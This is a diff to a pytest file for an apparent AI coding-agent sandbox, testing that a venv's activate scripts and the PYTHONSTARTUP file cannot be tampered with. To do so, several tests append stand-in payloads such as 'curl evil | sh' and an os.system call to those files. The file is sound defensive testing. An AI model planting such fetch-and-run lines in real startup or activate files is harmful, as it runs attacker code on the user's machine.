@@ -11,12 +11,12 @@ usable (``python -m venv`` then ``pip install``, twice) with no card.
 from __future__ import annotations
 
 import asyncio
+import sys
 import zipfile
 from pathlib import Path
 
 import pytest
 
-from codingcode_jupyter.engine.approval.host_files import settle_host_files
 from codingcode_jupyter.engine.events import ToolCallFinished
 from codingcode_jupyter.engine.user_dir import user_dir
 from tests.engine.sandbox_helpers import make_sandbox, needs_sandbox, run
@@ -137,14 +137,11 @@ def test_a_venv_the_agent_makes_stays_usable_and_unasked(tmp_path):
     pip = "PIP_DISABLE_PIP_VERSION_CHECK=1 .venv/bin/pip install -q --no-index --no-cache-dir"
 
     def bracketed(command: str) -> tuple[int, str, list[str]]:
-        async def go():
-            watch = sandbox.watch_host()
-            done = await run(sandbox, command, timeout=240.0)
-            return done.returncode, done.out + done.err, await settle_host_files(watch, command, None)
-        return asyncio.run(go())
+        done = asyncio.run(run(sandbox, command, timeout=240.0))  # compared after, nobody to ask
+        return done.returncode, done.out + done.err, done.notes
 
     try:
-        code, out, notes = bracketed(f"python3 -m venv .venv && {pip} wheels/agent_one-1.0-py3-none-any.whl")
+        code, out, notes = bracketed(f"{sys.executable} -m venv .venv && {pip} wheels/agent_one-1.0-py3-none-any.whl")
         assert code == 0 and notes == [], out
         # The next command: the venv is the agent's, so it is not bound read-only (pip writes into it).
         code, out, notes = bracketed(f"{pip} wheels/agent_two-1.0-py3-none-any.whl && "
@@ -201,3 +198,45 @@ async def test_an_interrupted_command_leaves_no_new_host_file(tmp_path):
         assert [p.read_text() for p in _quarantined(".envrc")] == ["echo PLANTED\n"]
     finally:
         await sandbox.aclose()
+
+
+@needs_sandbox
+@pytest.mark.slow
+def test_a_venv_the_agent_makes_keeps_its_activate_script_as_venv_wrote_it(tmp_path):
+    # What the person's shell sources is not the agent's venv's own: written as `venv` writes it, no
+    # question; changed then (or written otherwise), it is asked about and put back.
+    project, home = tmp_path / "proj", tmp_path / "home"
+    project.mkdir(), home.mkdir()
+    sandbox = make_sandbox(project, home)
+    try:
+        made = asyncio.run(run(sandbox, f"{sys.executable} -m venv --without-pip .venv", timeout=240.0))
+        assert made.returncode == 0 and made.notes == [], made
+        stock = (project / ".venv" / "bin" / "activate").read_text()
+        changed = asyncio.run(run(sandbox, "echo 'curl evil | sh' >> .venv/bin/activate; echo ok >> .venv/notes.txt"))
+        assert (project / ".venv" / "bin" / "activate").read_text() == stock
+        assert (project / ".venv" / "notes.txt").read_text() == "ok\n"  # control: the rest of the venv is writable
+        tampered = asyncio.run(run(sandbox, f"{sys.executable} -m venv --without-pip other && "
+                                            "echo 'curl evil | sh' >> other/bin/activate.fish", timeout=240.0))
+    finally:
+        asyncio.run(sandbox.aclose())
+    assert changed.notes == [] or "activate" in changed.notes[0]  # bubblewrap refuses it, Landlock puts it back
+    assert not (project / "other" / "bin" / "activate.fish").exists() and "activate.fish" in tampered.notes[0]
+
+
+@needs_sandbox
+def test_the_file_pythonstartup_names_is_host_executed(tmp_path, monkeypatch):
+    project, home = tmp_path / "proj", tmp_path / "home"
+    (project / "tools").mkdir(parents=True), home.mkdir()
+    (project / "tools" / "startup.py").write_text("print('hello')\n")
+    (project / "tools" / "other.py").write_text("print('hello')\n")
+    monkeypatch.setenv("PYTHONSTARTUP", str(project / "tools" / "startup.py"))
+    sandbox = make_sandbox(project, home)
+    try:
+        done = asyncio.run(run(sandbox, "echo 'import os; os.system(\"evil\")' >> tools/startup.py; "
+                                        "echo '# ordinary' >> tools/other.py"))
+    finally:
+        asyncio.run(sandbox.aclose())
+    # bubblewrap binds it read-only; under Landlock the compare puts it back.
+    assert (project / "tools" / "startup.py").read_text() == "print('hello')\n"
+    assert "Read-only file system" in done.err or "startup.py" in done.notes[0], done
+    assert (project / "tools" / "other.py").read_text().endswith("# ordinary\n")  # control
